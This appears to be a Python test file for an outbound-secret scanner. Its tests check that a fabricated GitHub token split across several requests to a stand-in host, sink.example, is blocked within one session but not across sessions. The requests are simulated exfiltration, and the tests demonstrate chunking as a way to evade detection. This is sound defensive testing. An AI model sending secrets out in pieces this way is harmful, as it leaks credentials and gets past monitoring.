"""What a session sent before counts; another session, or none, remembers nothing of it."""

import secrets
import string
import zlib
from typing import Any

from scangate import Answer, Scanner, Stream

_BASE62 = string.digits + string.ascii_uppercase + string.ascii_lowercase


def token() -> str:
    """A GitHub token that nobody issued."""
    entropy = "".join(secrets.choice(_BASE62) for _ in range(30))
    number, digits = zlib.crc32(entropy.encode()), ""
    for _ in range(6):
        number, digit = divmod(number, 62)
        digits = _BASE62[digit] + digits
    return f"ghp_{entropy}{digits}"


def ask(scanner: Scanner, piece: str, **around: Any) -> Answer:
    """A request that carries a piece."""
    url = f"https://sink.example/log?d={piece}".encode()
    return scanner.scan_request(method=b"GET", url=url, version=None, headers=[], body=None, **around)


def test_a_secret_in_pieces_is_found_over_the_messages_of_a_session() -> None:
    scanner, whole = Scanner(), token()
    assert ask(scanner, whole).verdict == "block"
    assert ask(scanner, whole[:18], session="one", flow="1").verdict == "allow"
    assert ask(scanner, whole[18:], session="two", flow="2").verdict == "allow"
    found = ask(scanner, whole[18:], session="one", flow="3")
    assert (found.verdict, found.reason_code) == ("block", "secret_outbound")
    assert found.report()["coverage"]["session"]


def flow(scanner: Scanner, piece: str, **around: Any) -> Stream:
    """An upload that carries a piece, to its end."""
    headers = [(b"content-type", b"application/x-www-form-urlencoded")]
    url = b"https://sink.example/up"
    stream = scanner.stream_request(method=b"POST", url=url, version=None, headers=headers, **around)
    stream.push(f"n=1&d={piece}&lang=en".encode())
    stream.finish()
    return stream


def test_pieces_meet_in_bodies_that_flow() -> None:
    scanner, whole = Scanner(), token()
    begun = flow(scanner, whole[:18], session="one", flow="1")
    assert (begun.verdict, begun.report()["coverage"]["session"]) == ("allow", True)
    assert flow(scanner, whole[18:], session="two", flow="2").verdict == "allow"
    assert flow(scanner, whole[18:]).verdict == "allow"
    found = flow(scanner, whole[18:], session="one", flow="3")
    assert (found.verdict, found.reason_code) == ("block", "secret_outbound")
    assert found.findings[0]["decoded_by"] == ["session", "pieces"]
    assert ask(scanner, whole[18:], session="one", flow="4").verdict == "block"


def test_without_a_session_nothing_is_remembered() -> None:
    scanner, whole = Scanner(), token()
    assert ask(scanner, whole[:18]).verdict == "allow"
    answer = ask(scanner, whole[18:])
    assert (answer.verdict, answer.report()["coverage"]["session"]) == ("allow", False)
